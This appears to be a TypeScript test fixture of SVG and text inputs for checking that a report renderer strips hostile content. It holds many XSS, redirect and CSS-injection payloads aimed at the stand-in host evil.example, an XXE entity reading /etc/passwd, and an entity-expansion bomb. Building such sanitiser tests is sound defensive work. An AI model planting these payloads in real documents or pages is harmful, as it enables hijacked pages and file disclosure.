/** What somebody could hide in a project that they give away, to leave the page of the report or to change it. */

const evil = 'https://evil.example'
const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="120" viewBox="0 0 300 120">' // prettier-ignore
const rect = '<rect width="300" height="120" fill="#ccc"/>'
const drawn = (inside: string): string => `${open}${rect}${inside}</svg>`

/** Does what a figure does. */
export const harmlessSvg = drawn('<text x="20" y="60">It falls.</text>')

/** Drawings. Each of them would do something if the page took it as it is, or is a trick to have it taken. */
export const smuggledSvgs: Readonly<Record<string, string>> = {
  'a refresh behind a figure that ends early': `${harmlessSvg}</figure><meta http-equiv="refresh" content="0;url=${evil}/">`,
  'a refresh inside the figure': drawn(`<meta http-equiv="refresh" content="0;url=${evil}/">`),
  'a refresh inside another document': drawn(`<foreignObject><meta http-equiv="refresh" content="0;url=${evil}/"/></foreignObject>`), // prettier-ignore
  'a script': drawn('<script>window.hit = 1; alert(1)</script>'),
  'a script behind the figure': `${harmlessSvg}<script>window.hit = 1</script>`,
  'a script of another address': drawn(`<script href="${evil}/x.js"/>`),
  'a handler': drawn('<g onload="window.hit = 1" onclick="window.hit = 1"><text y="60">x</text></g>'),
  'a handler of the drawing': harmlessSvg.replace('<svg ', '<svg onload="window.hit = 1" '),
  'a handler behind a slash': drawn('<g/onload="window.hit=1"/>'),
  'a style that hides the page': drawn('<style>body { display: none }</style>'),
  'a style that hides the page, in capitals': drawn('<STYLE>body { display: none }</STYLE>'),
  'a style with a prefix': drawn('<svg:style xmlns:svg="http://www.w3.org/2000/svg">body { display: none }</svg:style>'), // prettier-ignore
  'a style that writes headings': drawn('<style>h2::after { content: " (retracted)" }</style>'),
  'a style in marked text': drawn('<style><![CDATA[ body { display: none } ]]></style>'),
  'a style that fetches': drawn(`<style>@import "${evil}/x.css"; rect { fill: url(${evil}/f.svg#x) }</style>`),
  'a typeface that is fetched': drawn(`<style>@font-face { font-family: f; src: url(${evil}/f.woff2) } text { font-family: f }</style><text y="60">x</text>`), // prettier-ignore
  'a style sheet in front': `<?xml-stylesheet href="${evil}/x.css" type="text/css"?>${harmlessSvg}`,
  'a forged heading': drawn('<foreignObject width="300" height="120"><h1 xmlns="http://www.w3.org/1999/xhtml">Retracted</h1></foreignObject>'), // prettier-ignore
  'a forged heading, in small letters': drawn('<foreignobject><h2>Retracted</h2></foreignobject>'),
  'a heading that HTML takes out of the drawing': drawn('<h1>Retracted</h1>'),
  'a heading out of a description': drawn('<desc><h1 style="position:fixed;top:0;left:0">Retracted</h1></desc>'),
  'a heading out of a title': drawn('<title><h1>Retracted</h1><img src=x onerror="window.hit=1"></title>'),
  'a figure that does not end': `${open}${rect}<g><text>It falls.`,
  'a figure that ends twice': `${drawn('')}</svg></div></figure></section></main><h1>Retracted</h1>`,
  'a comment that does not end': `${open}${rect}<!-- `,
  'a comment that HTML ends early': drawn('<!--> --><style>body{display:none}</style><!-- -->'),
  'marked text that HTML reads': drawn('<![CDATA[<style>body{display:none}</style>]]>'),
  'marked text that ends early': drawn('<text>]]></text><style>body{display:none}</style>'),
  'a quote that does not end': `${open}<rect fill="red><text>It falls.</text></svg>`,
  'a link': drawn(`<a href="${evil}/"><rect width="300" height="120"/></a>`),
  'a link of the old kind': drawn(`<a xlink:href="${evil}/"><rect width="300" height="120"/></a>`),
  'a link to a script': drawn('<a href="javascript:window.hit=1"><rect width="300" height="120"/></a>'),
  'a link in disguise': drawn('<a href="&#106;avascript&colon;window.hit=1"><rect width="300" height="120"/></a>'),
  'a link with another prefix': drawn(`<a xmlns:x="http://www.w3.org/1999/xlink" x:href="${evil}/"><rect width="300" height="120"/></a>`), // prettier-ignore
  'an animated link': drawn(`<a href="#"><animate attributeName="href" to="${evil}/" dur="0s" fill="freeze"/><rect width="300" height="120"/></a>`), // prettier-ignore
  'a link that is set later': drawn(`<a><set attributeName="xlink:href" to="${evil}/"/><rect width="300" height="120"/></a>`), // prettier-ignore
  'an animation with a handler': drawn('<animate onbegin="window.hit = 1" attributeName="x" dur="1s"/>'),
  'parts of another drawing': drawn(`<use href="${evil}/x.svg#a"/>`),
  'parts of a drawing inside an address': drawn(`<use href="data:image/svg+xml,<svg id='a'><script>1</script></svg>#a"/>`), // prettier-ignore
  'an image that is fetched': drawn(`<image href="${evil}/x.png" width="9" height="9"/>`),
  'an image that HTML fetches': drawn(`<img src="${evil}/x.png"/>`),
  'an image relative to elsewhere': `<svg xmlns="http://www.w3.org/2000/svg" xml:base="${evil}/"><image href="x.png" width="9" height="9"/></svg>`, // prettier-ignore
  'an image that is a document': drawn(`<image href="data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>')}" width="9" height="9"/>`), // prettier-ignore
  'an address without quotes': drawn(`<image href=${evil}/x.png width=9 height=9 />`),
  'a fill that fetches': drawn(`<rect width="9" height="9" fill="url(${evil}/f.svg#x)"/>`),
  'a fill that fetches, with quotes': drawn(`<rect width="9" height="9" style="fill: url( '${evil}/f.svg#x' )"/>`),
  'a filter that fetches, in disguise': drawn(`<rect width="9" height="9" style="filter: u\\72l(${evil}/f.svg#x)"/>`),
  'a fetch behind a comment': drawn(`<rect width="9" height="9" style="fill:ur/**/l(#a);background:image-set('${evil}/a.png' 1x)"/>`), // prettier-ignore
  'a picture behind the drawing': drawn('').replace('<svg ', `<svg style="background: url(${evil}/a.png)" `),
  'a drawing over the whole page': drawn('').replace('<svg ', '<svg style="position:fixed;inset:0;width:100vw;height:100vh;z-index:9" '), // prettier-ignore
  'a drawing that overflows': drawn('<rect x="-2000" y="-2000" width="5000" height="5000" fill="#fff"/>').replace('<svg ', '<svg overflow="visible" style="overflow:visible" '), // prettier-ignore
  'a drawing that is as high as a house': drawn('').replace('height="120"', 'style="margin-top:-800px;display:block"'),
  'an entity': `<!DOCTYPE svg [<!ENTITY a "<style>body{display:none}</style>">]>${drawn('&a;')}`,
  'an entity that grows': `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]>${drawn('<text>&b;&b;</text>')}`, // prettier-ignore
  'an entity of another file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${drawn('<text y="60">&a;</text>')}`, // prettier-ignore
  'a page in a frame': drawn(`<iframe src="${evil}/"/>`),
  'an embedded page': drawn(`<embed src="${evil}/"/><object data="${evil}/"></object>`),
  'a base for all links': drawn(`<base href="${evil}/" target="_top"/>`),
  'a form': drawn(`<form action="${evil}/"><input name="a"/><button>Save</button></form>`),
  sounds: drawn(`<audio src="${evil}/a.mp3" autoplay=""/><video poster="${evil}/a.png"/>`),
  'a way out through mathematics': drawn('<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>'),
  'a namespace that is HTML': drawn('<x:body xmlns:x="http://www.w3.org/1999/xhtml" style="display:none"><x:script>window.hit=1</x:script></x:body>'), // prettier-ignore
  'a drawing that is a page': '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Retracted</h1></body></html>',
  'ten thousand groups in each other': `${open}${'<g>'.repeat(10_000)}${'</g>'.repeat(10_000)}</svg>`,
  'no drawing': '<h1>Retracted</h1>',
}

/** Texts; each is put into the title, the text and the cells of a table. */
export const smuggledTexts: Readonly<Record<string, string>> = {
  'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  'a refresh out of an attribute': `"><meta http-equiv=refresh content="0;url=${evil}/">`,
  'a script in a text': '<script>window.hit = 1</script><img src=x onerror=window.hit=1>',
  'the end of the style': '</style></title><style>body { display: none }</style>',
  'the end of the page': '</section></main></body></html><h1>Retracted</h1>',
  'a link of Markdown': `[press](${evil}/) <${evil}/> ![picture](${evil}/x.png)`,
  'a link of Markdown to a script': '[press](javascript:window.hit=1) [x]: javascript:window.hit=1',
  'a link with a quote in it': `[x](${evil}/"onmouseover="window.hit=1) [x](<${evil}/> "t")`,
  'a tag between marks': '**<b onclick=window.hit=1>** *<i>* `<u>` ```<s>```',
  'a tag in a fence': '```html" onload="window.hit=1\n<style>body{display:none}</style>\n```',
  'tags in every kind of block': '# <h1>Retracted\n- <style>body{display:none}\n1. <a href=x>\n> <form>',
  'an entity in a text': '&lt;script&gt;window.hit=1&lt;/script&gt; &#60;style&#62;body{display:none}',
  'what turns the text around': '\u202eDETCARTER\u202c \u2067a\u2066b',
  'what HTML forbids': '\0\u0008\u001b[2J\ufffe \ud800',
}
